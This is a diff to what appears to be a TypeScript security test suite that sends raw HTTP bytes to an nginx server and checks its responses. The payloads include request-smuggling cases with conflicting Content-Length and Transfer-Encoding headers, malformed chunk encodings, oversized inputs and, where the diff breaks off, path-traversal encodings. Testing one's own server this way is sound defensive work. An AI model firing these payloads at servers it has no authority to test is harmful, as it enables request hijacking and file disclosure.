@@ -4,274 +4,221 @@ import type { RawClient } from "./raw-http";
 export const smuggled = "/api/smuggled-";
 /** Begins the path of a request that may follow another one on its connection. */
 export const pipelined = "/api/pipelined-";
-/** A host that is none of ours; no answer names it. */
+/** Not a host of ours; no response names it. */
 export const foreignHost = "foreign.example";
 
-/** What is sent, in one or several pieces; what is expected; how the client behaves. */
+/** What is sent, in one or several pieces; the expected outcome; how the client behaves. */
 export type Row = readonly [bytes: string | string[], expected: string, client?: RawClient];
 
-/** Texts by what is expected of them. */
+/** Texts by the expected outcome. */
 type ByOutcome = Record<string, readonly string[]>;
 
 const rowsOf = (
   texts: ByOutcome,
-  bytesOf: (text: string) => string | string[],
+  bytesOf: (text: string) => string = (text) => text,
   client?: RawClient,
 ): Row[] =>
   Object.entries(texts).flatMap(([expected, list]) =>
     list.map((text): Row => [bytesOf(text), expected, client]),
   );
 
+/** Splits a list at `¦`, after which a line may break. */
+const listOf = (text: string): string[] => text.replace(/^\n *|\n *$/g, "").split(/¦(?:\n *)?/);
+
 const message = (...lines: string[]): string => `${lines.join("\r\n")}\r\n\r\n`;
 
-/** A whole request, after whose answer the connection ends. */
+/** A request after whose response another one may follow. */
+const request = (methodAndTarget: string, ...headers: string[]): string =>
+  message(`${methodAndTarget} HTTP/1.1`, "Host: localhost", ...headers);
+
+/** A request after whose response the connection ends. */
 const get = (target: string, ...headers: string[]): string =>
-  message(`GET ${target} HTTP/1.1`, "Host: localhost", "Connection: close", ...headers);
+  request(`GET ${target}`, "Connection: close", ...headers);
 
-/** A whole request, after whose answer another one may follow. */
-const getAndStay = (target: string, ...headers: string[]): string =>
-  message(`GET ${target} HTTP/1.1`, "Host: localhost", ...headers);
-
-/** Gives way to an attack's own name, which is as long: lengths are counted before. */
+/** A placeholder for the attack's own name, which is as long, so that lengths can be computed. */
 export const nameless = "@".repeat(24);
 
-/** A request that only a server which miscounts would see. */
-const hidden = `GET ${smuggled}${nameless} HTTP/1.1\r\nHost: localhost\r\n\r\n`;
-const next = message(
-  `GET ${pipelined}${nameless} HTTP/1.1`,
-  "Host: localhost",
-  "Connection: close",
-);
+/** A request that only a server with a wrong idea of the framing would see. */
+const hidden = request(`GET ${smuggled}${nameless}`);
+const next = get(`${pipelined}${nameless}`);
 
 /** nginx returns 501 for a transfer coding, and 505 for a version of HTTP, that it does not know. */
 const unknown = "400|411|501|505";
 
-/** For connections that may stay open: a silence shows that they do. */
+/** For connections that may stay open: silence shows that they do. */
 const briefly: RawClient = { quietMs: 1_000 };
 
 function requestLines(): Row[] {
   const after = "Host: localhost\r\nConnection: close\r\n\r\n";
-  const bad = [
-    ...["GET", "GET  ", " GET / HTTP/1.1", "\tGET / HTTP/1.1", "GET\t/\tHTTP/1.1", "GET / HTTP"],
-    ...["GET / HTTP/", "GET / HTTP/1", "GET / HTTP/1.", "GET / HTTP/.1", "GET / HTTP/1.1.1"],
-    ...["GET / HTTP/-1.1", "GET / HTTP/+1.1", "GET / HTTP/1,1", "GET / HTTP/1.x"],
-    ...["GET / HTTP/1.1x", "GET / HTTP/1.1 x", "GET / http/1.1", "GET / HTTP /1.1"],
-    ...["GET / HTP/1.1", "GET / HTTPS/1.1", "GET / XTTP/1.1", "GET / RTSP/1.0", "GET / SIP/2.0"],
-    ...["GET / ICY/1.0", "GET / HTTP/1.1\r", "GET /\rHTTP/1.1", "GET /\0 HTTP/1.1"],
-    ...["GET /\x01 HTTP/1.1", "GET /\x1b[2J HTTP/1.1", "GET /\x7f HTTP/1.1", "G\0ET / HTTP/1.1"],
-    ...["GET\0 / HTTP/1.1", "GE(T / HTTP/1.1", "GET, / HTTP/1.1", '"GET" / HTTP/1.1'],
-    ...["G\u00c9T / HTTP/1.1", "\u00ff\u00fe\u00fd", "/ GET HTTP/1.1", "HTTP/1.1 GET /"],
-    ...["HTTP/1.1 200 OK", ": /", "{}", "<xml/>", "0", "-1", "Host: localhost", "GET / HTTP/0.8"],
-    "GET / HTTP/1.1000000000000000000000",
-  ];
-  // Unusual, and yet understood as everybody would
-  const understood = [
-    ...["GET  / HTTP/1.1", "GET /  HTTP/1.1", "GET / HTTP/1.1 ", "GET / HTTP/1.2"],
-    ...["GET / HTTP/1.9", "GET / HTTP/1.01", "\r\nGET / HTTP/1.1", "\r\n\r\n\r\nGET / HTTP/1.1"],
-  ];
-  const versions = ["2", "2.0", "3.0", "9.9", "11.0", "01.1", "1000000000000000000000.1"];
+  const bad = listOf(`
+    GET¦GET  ¦ GET / HTTP/1.1¦\tGET / HTTP/1.1¦GET\t/\tHTTP/1.1¦GET / HTTP¦GET / HTTP/¦GET / HTTP/1¦
+    GET / HTTP/1.¦GET / HTTP/.1¦GET / HTTP/1.1.1¦GET / HTTP/-1.1¦GET / HTTP/+1.1¦GET / HTTP/1,1¦
+    GET / HTTP/1.x¦GET / HTTP/1.1x¦GET / HTTP/1.1 x¦GET / http/1.1¦GET / HTTP /1.1¦GET / HTP/1.1¦
+    GET / HTTPS/1.1¦GET / XTTP/1.1¦GET / RTSP/1.0¦GET / SIP/2.0¦GET / ICY/1.0¦GET / HTTP/1.1\r¦
+    GET /\rHTTP/1.1¦GET /\0 HTTP/1.1¦GET /\x01 HTTP/1.1¦GET /\x1b[2J HTTP/1.1¦GET /\x7f HTTP/1.1¦
+    G\0ET / HTTP/1.1¦GET\0 / HTTP/1.1¦GE(T / HTTP/1.1¦GET, / HTTP/1.1¦"GET" / HTTP/1.1¦
+    G\u00c9T / HTTP/1.1¦\u00ff\u00fe\u00fd¦/ GET HTTP/1.1¦HTTP/1.1 GET /¦HTTP/1.1 200 OK¦: /¦{}¦
+    <xml/>¦0¦-1¦Host: localhost¦GET / HTTP/0.8¦GET / HTTP/1.1000000000000000000000
+  `);
+  // Unusual, but unambiguous
+  const understood = listOf(`
+    GET  / HTTP/1.1¦GET /  HTTP/1.1¦GET / HTTP/1.1 ¦GET / HTTP/1.2¦GET / HTTP/1.9¦GET / HTTP/1.01¦
+    \r\nGET / HTTP/1.1¦\r\n\r\n\r\nGET / HTTP/1.1
+  `);
+  const versions = listOf("2¦2.0¦3.0¦9.9¦11.0¦01.1¦1000000000000000000000.1");
+  // HTTP/0.9 has neither status nor headers: the page, or the text of an error, is all there is
+  const bare = listOf("GET /¦GET /api/hello¦GET /nothing¦POST /¦HEAD /");
   return [
     ...rowsOf({ "400": bad, "200": understood }, (line) => `${line}\r\n${after}`),
-    ...versions.map((version): Row => [`GET / HTTP/${version}\r\n${after}`, unknown]),
+    ...rowsOf({ [unknown]: versions }, (version) => `GET / HTTP/${version}\r\n${after}`),
+    ...rowsOf({ bare }, (line) => `${line}\r\n`),
     [["G", "E", "T", " /", " HTTP/1.1\r\n", after], "200"],
     ["GET / HTTP/1.1\nHost: localhost\nConnection: close\n\n", "200"],
     ["GET / HTTP/1.0\r\n\r\n", "200"],
     ["GET / HTTP/0.9\r\n\r\n", "400"],
-    // HTTP/0.9 has neither status nor headers: the page, or the words of an error, are all there is
-    ...rowsOf(
-      { bare: ["GET /", "GET /api/hello", "GET /nothing", "POST /", "HEAD /"] },
-      (line) => `${line}\r\n`,
-    ),
   ];
 }
 
-/** The first bytes of clients that speak something else. */
+/** The first bytes of clients of other protocols. */
 function otherProtocols(): Row[] {
-  const clientHello =
-    "\x16\x03\x01\x00\x2f\x01\x00\x00\x2b\x03\x03" +
-    "\x5a".repeat(32) +
-    "\x00\x00\x04\x13\x01\x13\x02";
-  const settings = "\x00\x00\x00\x04\x00\x00\x00\x00\x00";
+  const clientHello = `\x16\x03\x01\0\x2f\x01\0\0\x2b\x03\x03${"Z".repeat(32)}\0\0\x04\x13\x01\x13\x02`;
+  const http2 = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
+  const refused = listOf(`
+    ${clientHello}¦\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10\x01\x00\x80¦
+    SSH-2.0-OpenSSH_9.9\r\n¦EHLO foreign.example\r\n¦*1\r\n$4\r\nPING\r\n¦PING\r\n¦\x05\x01\x00¦
+    \x04\x01\x00\x50\x7f\x00\x00\x01\x00¦
+    \x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00¦
+    PROXY TCP4 1.2.3.4 5.6.7.8 1 80\r\n${get("/")}¦
+    \r\n\r\n\0\r\nQUIT\n\x21\x11\x00\x0c${"\x01".repeat(12)}${get("/")}¦
+    \x00\x00\x00\x85\xff\x53\x4d\x42\x72\x00\x00\x00\x00¦stats\r\n¦
+    ${"\0".repeat(64)}¦${"\xff".repeat(64)}
+  `);
+  const h2c = listOf(
+    "Upgrade: h2c¦Connection: Upgrade, HTTP2-Settings¦HTTP2-Settings: AAMAAABkAAQAAP__",
+  );
+  const webSocket = listOf(`
+    Upgrade: websocket¦Connection: Upgrade¦Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==¦
+    Sec-WebSocket-Version: 13
+  `);
   return [
-    [clientHello, "400"],
-    ["\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10\x01\x00\x80", "400"],
-    [`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${settings}`, unknown],
-    ["SSH-2.0-OpenSSH_9.9\r\n", "400"],
-    ["EHLO foreign.example\r\n", "400"],
-    ["*1\r\n$4\r\nPING\r\n", "400"],
-    ["PING\r\n", "400"],
-    ["\x05\x01\x00", "400"],
-    ["\x04\x01\x00\x50\x7f\x00\x00\x01\x00", "400"],
-    ["\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00", "400"],
-    [`PROXY TCP4 1.2.3.4 5.6.7.8 1 80\r\n${get("/")}`, "400"],
-    [`\r\n\r\n\0\r\nQUIT\n\x21\x11\x00\x0c${"\x01".repeat(12)}${get("/")}`, "400"],
-    ["\x00\x00\x00\x85\xff\x53\x4d\x42\x72\x00\x00\x00\x00", "400"],
-    ["stats\r\n", "400"],
-    ["\0".repeat(64), "400"],
-    ["\xff".repeat(64), "400"],
-    ["\r\n", "nothing", { afterwards: "end" }],
-    ["\r\n".repeat(2_000), "nothing", { afterwards: "end" }],
-    [
-      getAndStay(
-        "/",
-        "Upgrade: h2c",
-        "Connection: Upgrade, HTTP2-Settings",
-        "HTTP2-Settings: AAMAAABkAAQAAP__",
-      ),
-      "200 open",
-      briefly,
-    ],
-    [
-      getAndStay(
-        "/api/hello",
-        "Upgrade: websocket",
-        "Connection: Upgrade",
-        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
-        "Sec-WebSocket-Version: 13",
-      ),
-      "200 open",
-      briefly,
-    ],
+    ...rowsOf({ "400": refused, [unknown]: [http2] }),
+    ...rowsOf({ nothing: ["\r\n", "\r\n".repeat(2_000)] }, undefined, { afterwards: "end" }),
+    [request("GET /", ...h2c), "200 open", briefly],
+    [request("GET /api/hello", ...webSocket), "200 open", briefly],
   ];
 }
 
 function methods(): Row[] {
-  const known = [
-    ...["POST", "PUT", "PATCH", "DELETE", "TRACE", "TRACK", "DEBUG", "PROPFIND", "PROPPATCH"],
-    ...["MKCOL", "COPY", "MOVE", "LOCK", "UNLOCK", "SEARCH", "PURGE", "LINK", "UNLINK", "FOO"],
-    ...["GETS", "HEADER", "M-SEARCH", "VERSION_CONTROL"],
-  ];
-  const bad = ["CONNECT", "get", "Get", "gEt", "post", "delete", "trace", "head", "options"];
+  const known = listOf(`
+    POST¦PUT¦PATCH¦DELETE¦TRACE¦TRACK¦DEBUG¦PROPFIND¦PROPPATCH¦MKCOL¦COPY¦MOVE¦LOCK¦UNLOCK¦SEARCH¦
+    PURGE¦LINK¦UNLINK¦FOO¦GETS¦HEADER¦M-SEARCH¦VERSION_CONTROL
+  `);
+  const bad = listOf("CONNECT¦get¦Get¦gEt¦post¦delete¦trace¦head¦options");
   return ["/", "/api/hello", "/nothing", "/api/nothing"].flatMap((target) =>
     rowsOf(
       { "405": known, "400": bad },
-      (method) =>
-        `${message(
-          `${method} ${target} HTTP/1.1`,
-          "Host: localhost",
-          "Connection: close",
-          "Content-Length: 3",
-        )}x=1`,
+      (method) => `${request(`${method} ${target}`, "Connection: close", "Content-Length: 3")}x=1`,
     ),
   );
 }
 
-/** Where the body ends is told twice, wrongly, or so that two readers could disagree. */
+/** The length of the body is given twice, wrongly, or so that two readers could disagree. */
 function framing(): Row[] {
-  const lengths = [
-    ...["-1", "+5", "5 5", "5, 5", "5,6", "0x5", "5.0", "5e0", "five", "", "\u0665", "5\0"],
-    ...["\x0b5", "99999999999999999999", "9223372036854775808", "18446744073709551621", "5;x"],
-    ...['"5"', "0 5"],
-  ];
-  const encodings = [
-    ...["identity", "gzip", "gzip, chunked", "chunked, gzip", "chunked, identity", "xchunked", ""],
-    ...["identity, chunked", "chunked, chunked", "chunked;q=1", '"chunked"', "'chunked'", "chunk"],
-    ...["chunked\0", "\x0bchunked", "chunked\x0b", "chunked,", ",chunked", "cow, chunked"],
-    ...["\u00a0chunked", "chunked\r\n , identity", "\r\n chunked", "CHUNKED, x"],
-  ];
-  const names = [
-    ...["Transfer-Encoding : chunked", " Transfer-Encoding: chunked"],
-    ...["Transfer-Encoding\t: chunked", "Transfer-Encoding\0: chunked"],
-    ...["Transfer Encoding: chunked", "X: x\rTransfer-Encoding: chunked"],
-    ...["Transfer-\r\n Encoding: chunked", "\x0bTransfer-Encoding: chunked"],
-    ...["Transfer-Encoding\x0b: chunked", "Content-Length : 5", " Content-Length: 5"],
-    ...["Content-Length\0: 5", "X: x\rContent-Length: 5", "Content-\r\n Length: 5"],
-    "Content Length: 5",
-  ];
-  // To nginx these are no such headers, and it passes none of them on
-  const ignored = [
-    ...["Transfer_Encoding: chunked", "Content_Length: 5", "Tra\u00e4nsfer-Encoding: chunked"],
-  ];
+  const lengths = listOf(`
+    -1¦+5¦5 5¦5, 5¦5,6¦0x5¦5.0¦5e0¦five¦¦\u0665¦5\0¦\x0b5¦99999999999999999999¦9223372036854775808¦
+    18446744073709551621¦5;x¦"5"¦0 5
+  `);
+  const encodings = listOf(`
+    identity¦gzip¦gzip, chunked¦chunked, gzip¦chunked, identity¦xchunked¦¦identity, chunked¦
+    chunked, chunked¦chunked;q=1¦"chunked"¦'chunked'¦chunk¦chunked\0¦\x0bchunked¦chunked\x0b¦
+    chunked,¦,chunked¦cow, chunked¦\u00a0chunked¦chunked\r\n , identity¦\r\n chunked¦CHUNKED, x
+  `);
+  const names = listOf(`
+    Transfer-Encoding : chunked¦ Transfer-Encoding: chunked¦Transfer-Encoding\t: chunked¦
+    Transfer-Encoding\0: chunked¦Transfer Encoding: chunked¦X: x\rTransfer-Encoding: chunked¦
+    Transfer-\r\n Encoding: chunked¦\x0bTransfer-Encoding: chunked¦Transfer-Encoding\x0b: chunked¦
+    Content-Length : 5¦ Content-Length: 5¦Content-Length\0: 5¦X: x\rContent-Length: 5¦
+    Content-\r\n Length: 5¦Content Length: 5
+  `);
+  // nginx neither understands these names nor passes them on
+  const ignored = listOf(
+    "Transfer_Encoding: chunked¦Content_Length: 5¦Tra\u00e4nsfer-Encoding: chunked",
+  );
   const body = `0\r\n\r\n${hidden}`;
   const long = `Content-Length: ${body.length}`;
-  const pairs = [
-    ...["Content-Length: 5|Content-Length: 5", "Content-Length: 5|Content-Length: 6"],
-    ...[`Content-Length: 0|${long}`, `${long}|Content-Length: 0`],
-    ...[`Transfer-Encoding: chunked|${long}`, `${long}|Transfer-Encoding: chunked`],
-    "Transfer-Encoding: chunked|Content-Length: 5",
-    "Content-Length: 5|Transfer-Encoding: chunked",
-    "Content-Length: 0|Transfer-Encoding: chunked",
-    "Transfer-Encoding: chunked|Transfer-Encoding: chunked",
-    "Transfer-Encoding: chunked|Transfer-Encoding: identity",
-    "Transfer-Encoding: identity|Transfer-Encoding: chunked",
-    "Transfer-Encoding: chunked|Transfer-encoding: cow",
-    "transfer-encoding: CHUNKED|Content-Length: 5",
-    "Content-Length: 5|Transfer-Encoding : chunked",
-    "Content-Length: 5|X: x\nTransfer-Encoding: chunked",
-  ];
-  const unknownPairs = [
-    "Transfer-Encoding: x|Content-Length: 5",
-    "Content-Length: 5|Transfer-Encoding: identity",
-  ];
+  const pairs = listOf(`
+    Content-Length: 5|Content-Length: 5¦Content-Length: 5|Content-Length: 6¦
+    Content-Length: 0|${long}¦${long}|Content-Length: 0¦Transfer-Encoding: chunked|${long}¦
+    ${long}|Transfer-Encoding: chunked¦Transfer-Encoding: chunked|Content-Length: 5¦
+    Content-Length: 5|Transfer-Encoding: chunked¦Content-Length: 0|Transfer-Encoding: chunked¦
+    Transfer-Encoding: chunked|Transfer-Encoding: chunked¦
+    Transfer-Encoding: chunked|Transfer-Encoding: identity¦
+    Transfer-Encoding: identity|Transfer-Encoding: chunked¦
+    Transfer-Encoding: chunked|Transfer-encoding: cow¦transfer-encoding: CHUNKED|Content-Length: 5¦
+    Content-Length: 5|Transfer-Encoding : chunked¦Content-Length: 5|X: x\nTransfer-Encoding: chunked
+  `);
+  const unknownPairs = listOf(
+    "Transfer-Encoding: x|Content-Length: 5¦Content-Length: 5|Transfer-Encoding: identity",
+  );
   const bad = [...lengths.map((value) => `Content-Length: ${value}`), ...names, ...pairs];
   const notKnown = [...encodings.map((value) => `Transfer-Encoding: ${value}`), ...unknownPairs];
-  // Understood, by nginx alone, since no body is passed on; what follows the body is a request
-  const chunked = [
-    "X: x\nTransfer-Encoding: chunked",
-    "Transfer-Encoding: chunked|Connection: Transfer-Encoding",
-  ];
-  const measured = ["X: x\nContent-Length: 5", "Content-Length: 5|Connection: Content-Length"];
+  // Understood by nginx alone, which passes no body on; what follows the body is a request
+  const chunked = listOf(`
+    X: x\nTransfer-Encoding: chunked¦Transfer-Encoding: chunked|Connection: Transfer-Encoding
+  `);
+  const measured = listOf("X: x\nContent-Length: 5¦Content-Length: 5|Connection: Content-Length");
+  const ofHidden = { "413": [`Content-Length: ${hidden.length}`] };
+  const chunk = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;
 
   const on =
-    (start: string) =>
+    (methodAndTarget: string, payload: string) =>
     (lines: string): string =>
-      message(`${start} HTTP/1.1`, "Host: localhost", ...lines.split("|"));
-  const get = on("GET /api/hello");
-  const post = on("POST /api/hello");
-  const onTop =
-    (begin: (lines: string) => string, payload: string) =>
-    (lines: string): string =>
-      begin(lines) + payload;
+      request(methodAndTarget, ...lines.split("|")) + payload;
+  const onGet = (payload: string) => on("GET /api/hello", payload);
+  const onPost = (payload: string) => on("POST /api/hello", payload);
   return [
-    ...[get, post, on("GET /"), on("OPTIONS /api/hello")].flatMap((begin) =>
-      rowsOf({ "400": bad, [unknown]: notKnown }, onTop(begin, body), briefly),
+    ...["GET /api/hello", "POST /api/hello", "GET /", "OPTIONS /api/hello"].flatMap((start) =>
+      rowsOf({ "400": bad, [unknown]: notKnown }, on(start, body), briefly),
     ),
-    ...rowsOf({ "400": pairs }, onTop(on("HEAD /api/hello"), body), { ...briefly, heads: 1 }),
-    ...rowsOf({ "200 400": ignored, "413": measured }, onTop(get, body), briefly),
-    ...rowsOf({ "405 400": ignored }, onTop(post, body), briefly),
-    ...rowsOf({ "411 404": chunked }, onTop(get, `0\r\n\r\n${next}`), briefly),
-    ...rowsOf({ "405 404": [...chunked, ...measured] }, onTop(post, `0\r\n\r\n${next}`), briefly),
+    ...rowsOf({ "400": pairs }, on("HEAD /api/hello", body), { ...briefly, heads: 1 }),
+    ...rowsOf({ "200 400": ignored, "413": measured }, onGet(body), briefly),
+    ...rowsOf({ "405 400": ignored }, onPost(body), briefly),
+    ...rowsOf({ "411 404": chunked }, onGet(`0\r\n\r\n${next}`), briefly),
+    ...rowsOf({ "405 404": [...chunked, ...measured] }, onPost(`0\r\n\r\n${next}`), briefly),
     [message("GET /api/hello HTTP/1.0", "Transfer-Encoding: chunked") + body, "400", briefly],
     [message("GET /api/hello HTTP/1.0", "Content-Length: 0") + hidden, "200", briefly],
     // A body that looks like a request
-    ...rowsOf({ "413": [`Content-Length: ${hidden.length}`] }, onTop(get, hidden), briefly),
-    ...rowsOf({ "413": [`Content-Length: ${hidden.length}`] }, onTop(on("GET /"), hidden), briefly),
-    [
-      get("Transfer-Encoding: chunked") +
-        `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n${next}`,
-      "411 404",
-    ],
-    [get(`Expect: 100-continue|Content-Length: ${hidden.length}`) + hidden, "413", briefly],
-    [post("Expect: 100-continue|Content-Length: 999999"), "405( open)?", briefly],
-    [get("Expect: nothing|Connection: close"), "200"],
-    [get("Expect: 100-continue, x|Content-Length: 0|Connection: close"), "200"],
+    ...rowsOf(ofHidden, onGet(hidden), briefly),
+    ...rowsOf(ofHidden, on("GET /", hidden), briefly),
+    ...rowsOf(ofHidden, (length) => onGet(hidden)(`Expect: 100-continue|${length}`), briefly),
+    ...rowsOf({ "411 404": ["Transfer-Encoding: chunked"] }, onGet(chunk + next)),
+    [onPost("")("Expect: 100-continue|Content-Length: 999999"), "405( open)?", briefly],
+    [onGet("")("Expect: nothing|Connection: close"), "200"],
+    [onGet("")("Expect: 100-continue, x|Content-Length: 0|Connection: close"), "200"],
   ];
 }
 
 function chunking(): Row[] {
-  const bodies = [
-    ...["zz\r\nhello\r\n0\r\n\r\n", "-5\r\nhello\r\n0\r\n\r\n", "+5\r\nhello\r\n0\r\n\r\n"],
-    ...["0x5\r\nhello\r\n0\r\n\r\n", "ffffffffffffffff\r\nhello\r\n"],
-    ...["fffffffffffffffff\r\nhello\r\n", "8000000000000000\r\nhello\r\n"],
-    ...["7fffffffffffffff\r\nhello\r\n", "\r\nhello\r\n0\r\n\r\n", "5\r\nhelloX\r\n0\r\n\r\n"],
-    ...["5\r\nhello0\r\n\r\n", "5 \r\nhello\r\n0\r\n\r\n", "5\nhello\n0\n\n", "5\rhello\r0\r\r"],
-    ...["5;a=b\r\nhello\r\n0\r\n\r\n", "5;\r\nhello\r\n0\r\n\r\n"],
-    ...['5;a="\r\n"\r\nhello\r\n0\r\n\r\n', "5\0\r\nhello\r\n0\r\n\r\n"],
-    ...[`${"0".repeat(30)}5\r\nhello\r\n0\r\n\r\n`, `${"0".repeat(5_000)}5\r\nhello\r\n0\r\n\r\n`],
-    ...[`5;${"x".repeat(20_000)}\r\nhello\r\n0\r\n\r\n`, "3\r\nhello\r\n0\r\n\r\n"],
-    ...[`0\r\nHost: ${foreignHost}\r\n\r\n`, "0\r\nContent-Length: 99\r\n\r\n"],
-    ...["0\r\nTransfer-Encoding: chunked\r\n\r\n", `0\r\n${"X: y\r\n".repeat(3_000)}\r\n`],
-    ...[`0\r\n${hidden}`, `0\r\nX${hidden}`, `0\n\n${hidden}`, `2\r\nZ\r\n0\r\n\r\n${hidden}`],
-  ];
+  const bodies = listOf(`
+    zz\r\nhello\r\n0\r\n\r\n¦-5\r\nhello\r\n0\r\n\r\n¦+5\r\nhello\r\n0\r\n\r\n¦
+    0x5\r\nhello\r\n0\r\n\r\n¦ffffffffffffffff\r\nhello\r\n¦fffffffffffffffff\r\nhello\r\n¦
+    8000000000000000\r\nhello\r\n¦7fffffffffffffff\r\nhello\r\n¦\r\nhello\r\n0\r\n\r\n¦
+    5\r\nhelloX\r\n0\r\n\r\n¦5\r\nhello0\r\n\r\n¦5 \r\nhello\r\n0\r\n\r\n¦5\nhello\n0\n\n¦
+    5\rhello\r0\r\r¦5;a=b\r\nhello\r\n0\r\n\r\n¦5;\r\nhello\r\n0\r\n\r\n¦
+    5;a="\r\n"\r\nhello\r\n0\r\n\r\n¦5\0\r\nhello\r\n0\r\n\r\n¦
+    ${"0".repeat(30)}5\r\nhello\r\n0\r\n\r\n¦${"0".repeat(5_000)}5\r\nhello\r\n0\r\n\r\n¦
+    5;${"x".repeat(20_000)}\r\nhello\r\n0\r\n\r\n¦3\r\nhello\r\n0\r\n\r\n¦
+    0\r\nHost: ${foreignHost}\r\n\r\n¦0\r\nContent-Length: 99\r\n\r\n¦
+    0\r\nTransfer-Encoding: chunked\r\n\r\n¦0\r\n${"X: y\r\n".repeat(3_000)}\r\n¦0\r\n${hidden}¦
+    0\r\nX${hidden}¦0\n\n${hidden}¦2\r\nZ\r\n0\r\n\r\n${hidden}
+  `);
   return [
     ["GET", "411"],
     ["POST", "405"],
   ].flatMap(([method, status = ""]): Row[] => {
-    const head = message(
-      ...[`${method} /api/hello HTTP/1.1`, "Host: localhost", "Transfer-Encoding: chunked"],
-    );
+    const head = request(`${method} /api/hello`, "Transfer-Encoding: chunked");
     return [
-      // The refusal comes before the body is looked at
+      // nginx rejects these before it reads the body
       ...rowsOf({ [status]: bodies }, (body) => head + body, { afterwards: "end" }),
       [`${head}1\r\nZ\r\n0\r\n\r\n${next}`, `${status} 404`],
     ];
@@ -279,104 +226,92 @@ function chunking(): Row[] {
 }
 
 function oversized(): Row[] {
-  const many = (count: number): string[] =>
-    Array.from({ length: count }, (_, index) => `X-${index}: y`);
-  return [
-    ...[9_000, 40_000, 1_000_000].flatMap((size): Row[] => [
-      [get(`/${"a".repeat(size)}`), "414"],
-      [get(`/api/hello?${"a".repeat(size)}`), "414"],
-      [get("/", `X: ${"a".repeat(size)}`), "400"],
-      [get("/", `${"X".repeat(size)}: a`), "400"],
-      [get("/", `Cookie: ${"a=b; ".repeat(size / 5)}`), "400"],
-      [get("/", `Referer: http://${foreignHost}/${"a".repeat(size)}`), "400"],
-      [message("GET / HTTP/1.1", `Host: ${"a".repeat(size)}`), "400"],
-      [message(`${"A".repeat(size)} / HTTP/1.1`, "Host: localhost"), "414"],
+  const ofSize = (size: number): Row[] => {
+    const long = "a".repeat(size);
+    const headers = listOf(`
+      X: ${long}¦${"X".repeat(size)}: a¦Cookie: ${"a=b; ".repeat(size / 5)}¦
+      Referer: http://${foreignHost}/${long}
+    `);
+    const version = `GET / HTTP/1.${"1".repeat(size)}`;
+    return [
+      ...rowsOf({ "414": [`/${long}`, `/api/hello?${long}`] }, (target) => get(target)),
+      ...rowsOf({ "400": headers }, (line) => get("/", line)),
+      ...rowsOf({ "414": [`${"A".repeat(size)} /`, `GET ${" ".repeat(size)}/`] }, (start) =>
+        request(start),
+      ),
+      [message("GET / HTTP/1.1", `Host: ${long}`), "400"],
+      [message(version, "Host: localhost"), "400"],
       [`${"A".repeat(size)}\r\n\r\n`, "414"],
-      [message(`GET / HTTP/1.${"1".repeat(size)}`, "Host: localhost"), "400"],
-      [message(`GET ${" ".repeat(size)}/ HTTP/1.1`, "Host: localhost"), "414"],
-    ]),
-    ...[1_500, 5_000, 50_000].flatMap((count): Row[] => [
-      [get("/", ...many(count)), "400"],
-      [get("/api/hello", ...many(count)), "400"],
-    ]),
-    ...["1025", "1048577", "10737418240", "9223372036854775807"].flatMap((length): Row[] => [
-      [get("/", `Content-Length: ${length}`), "413"],
-      [get("/api/hello", `Content-Length: ${length}`), "413"],
-      [
-        message("POST /api/hello HTTP/1.1", "Host: localhost", `Content-Length: ${length}`),
-        "405( open)?",
-        briefly,
-      ],
-    ]),
-    [get("/", "Content-Length: 2000000") + "x".repeat(2_000_000), "413"],
-    [
-      get("/api/hello", "Transfer-Encoding: chunked") +
-        `1e8480\r\n${"x".repeat(2_000_000)}\r\n0\r\n\r\n`,
-      "411",
-    ],
-    [
-      `${get("/api/hello", "Transfer-Encoding: chunked") + "1\r\nx\r\n".repeat(5_000)}0\r\n\r\n`,
-      "411",
-    ],
-    [
-      message("POST / HTTP/1.1", "Host: localhost", "Content-Length: 2000000") +
-        "x".repeat(2_000_000),
-      "405( open)?",
+    ];
+  };
+  const lengths = ["1025", "1048577", "10737418240", "9223372036854775807"];
+  const body = "x".repeat(2_000_000);
+  const chunked = get("/api/hello", "Transfer-Encoding: chunked");
+  return [
+    ...[9_000, 40_000, 1_000_000].flatMap(ofSize),
+    ...[1_500, 5_000, 50_000].flatMap((count) => {
+      const lines = Array.from({ length: count }, (_, index) => `X-${index}: y`).join("\r\n");
+      return rowsOf({ "400": ["/", "/api/hello"] }, (target) => get(target, lines));
+    }),
+    ...["/", "/api/hello"].flatMap((target) =>
+      rowsOf({ "413": lengths }, (length) => get(target, `Content-Length: ${length}`)),
+    ),
+    ...rowsOf(
+      { "405( open)?": lengths },
+      (length) => request("POST /api/hello", `Content-Length: ${length}`),
       briefly,
-    ],
+    ),
+    [get("/", "Content-Length: 2000000") + body, "413"],
+    [`${chunked}1e8480\r\n${body}\r\n0\r\n\r\n`, "411"],
+    [`${chunked}${"1\r\nx\r\n".repeat(5_000)}0\r\n\r\n`, "411"],
+    [request("POST /", "Content-Length: 2000000") + body, "405( open)?", briefly],
   ];
 }
 
 function traversal(): Row[] {
-  const up = [
-    ...["../", "..%2f", "%2e%2e/", "%2e%2e%2f", ".%2e/", "%2E./", "..\\", "..%5c", "%2e%2e%5c"],
-    ...["%252e%252e/", "..%252f", "%252e%252e%252f", "%25252e%25252e%25252f", "..%255c"],
-    ...["..%c0%af", "%c0%ae%c0%ae/", "%c0%ae%c0%ae%c0%af", "..%c1%9c"],
-    ...["%e0%80%ae%e0%80%ae%e0%80%af", "%f0%80%80%ae%f0%80%80%ae/", "..\xc0\xaf"],
-    ...["\xc0\xae\xc0\xae/", "%u002e%u002e%u2215", "%uff0e%uff0e/", "..;/", "..;x=y/", "..%3b/"],
-    ...["....//", "..././", ".../", "..%00/", "..\0/", "..%0a/", "..%09/", "..%20/", "..//"],
-    ...["./../", "/../", "%2f..%2f", "..%ef%bc%8f", "\u00ef\u00bc\u008e\u00ef\u00bc\u008e/"],
-  ];
+  const up = listOf(`
